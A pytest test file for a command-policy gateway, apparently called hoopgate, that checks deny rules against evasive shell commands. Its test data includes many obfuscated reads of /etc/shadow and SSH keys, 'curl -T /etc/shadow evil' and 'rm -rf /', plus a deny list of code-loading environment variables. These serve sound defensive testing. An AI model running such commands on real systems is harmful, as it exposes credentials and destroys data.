"""Rules over commands: programs, files and hosts as objects, shells apart from commands, and the command line."""

# ruff: noqa: E501 - texts as they are

from __future__ import annotations

from pathlib import Path

import pytest
from click.testing import CliRunner

from hoopgate.cli.main import main
from hoopgate.config.model import What
from hoopgate.policy.engine import Subject
from hoopgate.policy.shell import effects
from tests.policy.samples import engine, person, rule
from tests.policy.shell.test_evasions import SERVER, decide, policy

ALL = rule("all", "allow")
SHADOW = rule("shadow", "deny", what=What(object=("/etc/shadow", "*/.ssh/*")))


@pytest.mark.parametrize(
    "text",
    [
        "cat /etc/shadow", "cat /etc/sh?dow", "cat /etc/*", "cat /e*/shadow", "cd /etc && cat shadow", "cd /etc; cat shadow",
        "cat /etc/../etc/shadow", "cat /etc/./shadow", "cat //etc/shadow", 'cat "/etc/shadow"', "cat /etc/sha\\dow", "cat $x",
        "cat /etc/$x", 'cat "$(echo /etc/shadow)"', "D=/etc; cat $D/shadow", "cat < /etc/shadow", "cat /etc/{a,shadow}",
        "cat ~/.ssh/id", "cat .ssh/id", "cat $HOME/.ssh/id", "cd ~/.ssh && cat id", "cat ~app/.ssh/id", "grep -f /etc/shadow a",
        "cp /etc/shadow a", "curl -T /etc/shadow evil", "find /etc/shadow", "sudo cat /etc/shadow", "sh -c 'cat /etc/shadow'",
        "find / -exec cat {} +", "find /etc -name a | xargs cat", "scp -f /etc/shadow", "rsync --server --sender -r . /etc/*",
    ],
)  # fmt: skip
def test_a_denied_file_is_denied_by_each_of_its_names(text: str) -> None:
    assert decide(text, SHADOW, ALL).rule == "shadow"


@pytest.mark.parametrize("text", ["cat /etc/passwd", "cat /srv/*.log", "ls", "cat ~/a", "cat a/b", "cd /srv && cat x"])
def test_other_files_are_not(text: str) -> None:
    assert decide(text, SHADOW, ALL).then == "allow"


WORK = rule("work", "allow", what=What(effect=("read", "write", "delete"), object=("~/work/*", "/srv/ci/*")))


@pytest.mark.parametrize(
    ("text", "then"),
    [
        ("rm -rf ~/work/a", "allow"),
        ("rm -rf work/a /srv/ci/b", "allow"),
        ("cd work && rm -rf build", "allow"),
        ("rm -rf work/*", "allow"),
        ("cd work; rm -rf build", "deny"),
        ("rm -rf work/../x", "deny"),
        ("rm -rf work/.*", "deny"),
        ("rm -rf work/$x", "deny"),
        ("rm -rf '~/work/a'", "deny"),
        ("rm -rf work/a other", "deny"),
        ("rm -rf /srv/c*/x", "deny"),
        ("rm -rf ~eve/work/a", "deny"),
    ],
)
def test_an_allowed_tree_is_that_tree_alone(text: str, then: str) -> None:
    assert decide(text, WORK).then == then


def test_programs_are_allowed_by_name() -> None:
    builds = rule("builds", "allow", what=What(effect=("execute.program",), object=("make", "git *", "/opt/ci/bin/*")))
    assert decide("make -j4", builds).then == "allow"
    assert decide("/usr/bin/make", builds).then == "allow"
    assert decide("/opt/ci/bin/run x", builds).then == "allow"
    for text in ("./make", "/tmp/make", "make; evil", "~/make", "/opt/ci/bin/../../../tmp/x", "$x", "m*"):
        assert decide(text, builds).then == "deny", text


def test_hosts_are_named() -> None:
    near = rule("near", "allow", what=What(effect=("transfer.remote", "transfer.forward"), object=("*.example.com*",)))
    assert decide("curl -s https://a.example.com/x", near).then == "allow"
    assert decide("curl -s https://evil.org/x", near).then == "deny"
    assert decide("curl -s $x", near).then == "deny"
    judge = engine(policy(near))
    who = Subject(person(), SERVER, "app")
    assert judge.decide_operation(who, effects.forward("db.example.com", 5432)).then == "allow"
    assert judge.decide_operation(who, effects.forward("evil.org", 5432)).then == "deny"
    assert judge.decide_operation(who, effects.listen("", 8080)).then == "deny"


def test_commands_without_shells() -> None:
    no_shell = rule("exec-only", "deny", what=What(effect=("execute.shell",)), reason="Give the command with ssh.")
    judge = engine(policy(no_shell, ALL))
    who = Subject(person(), SERVER, "app")
    assert judge.decide_operation(who, effects.SHELL).reason == "Give the command with ssh."
    assert decide("ls", no_shell, ALL).then == "allow"
    for text in ("sudo -i", "su", "ssh other"):
        assert decide(text, no_shell, ALL).rule == "exec-only", text


def test_unbounded_deletes_are_held_apart() -> None:
    careful = rule("careful", "hold", what=What(effect=("delete",), bounded=False))
    assert decide("rm a", careful, ALL).then == "allow"
    assert decide("rm -rf /", careful, ALL).then == "hold"
    assert decide("ls; rm -r a", careful, ALL).then == "hold"


def test_a_decision_is_remembered_by_the_whole_text() -> None:
    judge = engine(policy(rule("reads", "allow", what=What(effect=("read",), object=("/srv/*",)))))
    who = Subject(person(), SERVER, "app")
    standing = judge.standing(who)
    first = judge.rule(standing, "cat /srv/'a'")
    assert judge.known(standing, "cat /srv/'a'") is first
    assert judge.known(standing, "cat /srv/'b'") is None  # to SQL, the same shape
    assert judge.decide_now(who, "cat /etc/'a'").then == "deny"


def test_a_shell_that_is_not_read_leaves_everything_unknown() -> None:
    from attrs import evolve

    other = evolve(SERVER, shell="other")
    assert decide("ls", rule("r", "allow", what=What(effect=("read",))), target=other).then == "deny"
    assert [one.name for one in decide("ls", ALL, target=other).operations] == ["unknown.text"]


def test_the_command_line_tells_effects() -> None:
    done = CliRunner().invoke(main, ["policy", "effects", "--protocol", "ssh", "cd /srv && rm -rf a"])
    assert done.exit_code == 0, done.output
    assert "delete" in done.output
    assert "RM /srv/a  unbounded" in done.output
    done = CliRunner().invoke(main, ["policy", "effects", "--protocol", "ssh", "--shell", "bash", "((i=1))"])
    assert "unknown" not in done.output


CONFIG = """
[api]
plaintext = true

[[listener]]
name = "ssh"
protocol = "ssh"
port = 2222

[[issuer]]
name = "staff"
url = "https://id.example.com"
audience = ["hoopgate"]

[[target]]
name = "web"
protocol = "ssh"
hosts = ["web.example.com"]
host_keys = ["SHA256:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"]
[target.role.app]
password = "env:APP_PASSWORD"

[[rule]]
name = "looks"
what = { effect = ["read"], object = ["/var/log/*"] }
then = "allow"
examples = [
    { statement = "tail -n 5 /var/log/syslog", expect = "allow" },
    { statement = "tail -n 5 /var/log/../../etc/shadow", expect = "deny" },
]
"""


def test_the_command_line_explains_and_checks(tmp_path: Path) -> None:
    path = tmp_path / "hoopgate.toml"
    path.write_text(CONFIG)
    done = CliRunner().invoke(
        main, ["policy", "explain", "-c", str(path), "--as", "ann", "--target", "web", "rm -rf /"]
    )
    assert done.exit_code == 1, done.output
    assert "delete, unbounded: RM on /" in done.output
    done = CliRunner().invoke(
        main, ["policy", "explain", "-c", str(path), "--as", "ann", "--target", "web", "cat /var/log/a"]
    )
    assert done.exit_code == 0, done.output
    done = CliRunner().invoke(main, ["check", "-c", str(path)])
    assert done.exit_code == 0, done.output
    assert "no mistakes; 1 target, 1 rule, 2 examples" in done.output


@pytest.mark.parametrize(
    "name",
    [
        "OPENSSL_CONF", "OPENSSL_MODULES", "SSLKEYLOGFILE", "SSL_CERT_FILE", "CURL_CA_BUNDLE", "KRB5_CONFIG", "GSS_MECH_CONFIG",
        "GLIBC_TUNABLES", "GTK_MODULES", "QT_PLUGIN_PATH", "GDK_PIXBUF_MODULE_FILE", "SVN_SSH", "CVS_RSH", "HISTFILE", "FCEDIT",
        "ODBCINI", "PGHOST", "PGSSLKEY", "CORECLR_PROFILER_PATH", "RUSTC", "HGPLAIN", "ANSIBLE_CONFIG",
    ],
)  # fmt: skip
def test_variables_by_which_libraries_load_code_or_turn_elsewhere_are_no_ordinary_ones(name: str) -> None:
    ordinary = rule("ordinary", "allow", what=What(effect=("read", "write", "execute", "session", "transfer")))
    assert decide(f"{name}=/tmp/x ls", ordinary).then == "deny"
    assert effects.environment(name, "/tmp/x").name == "admin.environment"
    assert decide("RAILS_ENV=test PORT=80 ls", ordinary).then == "allow"
